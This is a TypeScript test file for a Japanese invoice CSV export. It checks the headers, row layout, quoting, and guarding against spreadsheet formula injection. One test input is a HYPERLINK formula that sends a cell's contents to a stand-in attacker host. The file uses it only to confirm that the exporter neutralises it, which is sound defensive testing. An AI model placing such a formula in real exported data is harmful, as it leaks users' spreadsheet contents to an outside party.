import fc from 'fast-check';
import { csvCell, INVOICE_CSV_HEADERS, INVOICE_CSV_START, invoiceCsvRows } from '../../functions/exports/invoice-csv';
import { aLine, anAdjustment, anInvoice, parseCsv } from './invoices';

const column = (header: string): number => INVOICE_CSV_HEADERS.indexOf(header);
const rowsOf = (invoice = anInvoice()): string[][] => parseCsv(invoiceCsvRows(invoice));

describe('the invoice CSV', () => {
  it('starts with the BOM once and the Japanese header row, ended by CRLF', () => {
    expect(INVOICE_CSV_START.startsWith('\uFEFF')).toBe(true);
    expect(INVOICE_CSV_START.indexOf('\uFEFF', 1)).toBe(-1);
    expect(invoiceCsvRows(anInvoice())).not.toContain('\uFEFF');
    expect(parseCsv(INVOICE_CSV_START.slice(1))).toEqual([
      [
        '請求書番号',
        '契約ID',
        '取引年月',
        '発行日',
        '顧客ID',
        '宛名',
        '支払方法',
        '行番号',
        '区分',
        '品目',
        '数量',
        '単価',
        '金額（税抜）',
        '課税区分',
        '調整対象請求書番号',
        '調整対象年月',
        '条項',
        '10%対象',
        '消費税',
        '合計',
        '仮',
      ],
    ]);
  });

  it('writes one row per invoice line, numbered from 1, each ended by CRLF and no bare LF', () => {
    const text = invoiceCsvRows(anInvoice());
    expect(text.split('\r\n')).toHaveLength(3);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    // The invoice's own columns, the same on each of its rows: its number to its billing method first, its totals and 仮 last.
    const invoice = ['INV-202405-K0001', 'K-0001', '2024-05', '2024-06-02', 'C-001', '株式会社サンプル', '口座振替'];
    const totals = ['10483', '1048', '11531', ''];
    expect(rowsOf()).toEqual([
      [...invoice, '1', '月額', 'セキュリティおまかせプラン Prime Plus 10台', '1', '19000', '13483', '課税', '', '', '別紙7 1', ...totals],
      [...invoice, '2', '調整', '差額調整 (2024年4月分)', '1', '-3000', '-3000', '課税', 'INV-202404-K0001', '2024-04', '別紙7 1', ...totals],
    ]);
  });

  it('keeps negative amounts plain numbers (a credit), without the formula guard', () => {
    const credit = anInvoice({
      lines: [anAdjustment({ amount: -20000, unitPrice: -20000 })],
      subtotal: -20000,
      tax: { ratePercent: 10, taxableSubtotal: -20000, consumptionTax: -2000, total: -22000 },
    });
    const line = invoiceCsvRows(credit);
    expect(line).toContain(',-20000,-20000,課税,');
    expect(line).toContain(',-20000,-2000,-22000,');
    expect(line).not.toContain("'-");
  });

  it('names the billing method, the kind and 不課税 in Japanese, and marks a placeholder invoice 仮', () => {
    const methods = (['invoice', 'account-transfer', 'credit-card'] as const).map(
      (billingMethod) => rowsOf(anInvoice({ billingMethod }))[0][column('支払方法')],
    );
    expect(methods).toEqual(['請求書払い', '口座振替', 'クレジットカード']);
    const kinds = (['monthly', 'one-off', 'termination-fee', 'invoice-fee', 'adjustment'] as const).map(
      (kind) => rowsOf(anInvoice({ lines: [aLine({ kind })] }))[0][column('区分')],
    );
    expect(kinds).toEqual(['月額', '一時金', '解約金', '請求書発行手数料', '調整']);
    const fee = rowsOf(anInvoice({ lines: [aLine({ kind: 'termination-fee', taxable: false, taxLabel: '不課税' })], placeholder: true }))[0];
    expect([fee[column('課税区分')], fee[column('仮')]]).toEqual(['不課税', '仮']);
  });

  it('writes no row for an invoice without lines', () => {
    expect(invoiceCsvRows(anInvoice({ lines: [] }))).toBe('');
  });

  it.each([
    ['a comma', '株式会社A,B', '"株式会社A,B"'],
    ['quotes', 'The "Best" 株式会社', '"The ""Best"" 株式会社"'],
    ['a newline', '一行目\n二行目', '"一行目\n二行目"'],
    ['a CRLF', '一行目\r\n二行目', '"一行目\r\n二行目"'],
    ['a formula', '=HYPERLINK("https://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`],
    ['a plus', '+81 6 0000', "'+81 6 0000"],
    ['a minus', '-1+1', "'-1+1"],
    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a tab', '\t=1', "'\t=1"],
    ['a CR', '\r=1', `"'\r=1"`],
    ['emoji', '株式会社🍣👨‍👩‍👧', '株式会社🍣👨‍👩‍👧'],
    ['a formula character not first', '山田=太郎', '山田=太郎'],
  ])('quotes and guards a name with %s', (_what, name, cell) => {
    expect(csvCell(name)).toBe(cell);
    const row = rowsOf(anInvoice({ customer: { customerId: 'C-001', name } }))[0];
    expect(row).toHaveLength(INVOICE_CSV_HEADERS.length);
    expect(row[column('宛名')]).toBe(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
  });

  it('keeps a 1,000-character name whole in its one field', () => {
    const name = `${'株式会社,"長い"\n名前'.repeat(100)}`.slice(0, 1000);
    expect(name).toHaveLength(1000);
    const rows = rowsOf(anInvoice({ customer: { customerId: 'C-001', name } }));
    expect(rows.map((row) => row[column('宛名')])).toEqual([name, name]);
  });

  it('guards every text field, not only the name', () => {
    const row = rowsOf(anInvoice({ lines: [aLine({ label: '=1+1', clause: '@A1' })] }))[0];
    expect([row[column('品目')], row[column('条項')]]).toEqual(["'=1+1", "'@A1"]);
  });

  it('reads back any name a spreadsheet reader would, guarded, with every row the header long', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 60 }), fc.string({ unit: 'binary', maxLength: 30 }), (name, label) => {
        const rows = rowsOf(anInvoice({ customer: { customerId: 'C-001', name }, lines: [aLine({ label })] }));
        const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
        expect(rows).toHaveLength(1);
        expect(rows[0]).toHaveLength(INVOICE_CSV_HEADERS.length);
        expect(rows[0][column('宛名')]).toBe(guarded(name));
        expect(rows[0][column('品目')]).toBe(guarded(label));
      }),
    );
  });

  it('refuses a money value that is not an integer rather than filing it', () => {
    expect(() => invoiceCsvRows(anInvoice({ lines: [aLine({ amount: 0.5 })] }))).toThrow('Not an integer');
    expect(() => csvCell(Number.NaN)).toThrow('Not an integer');
  });
});
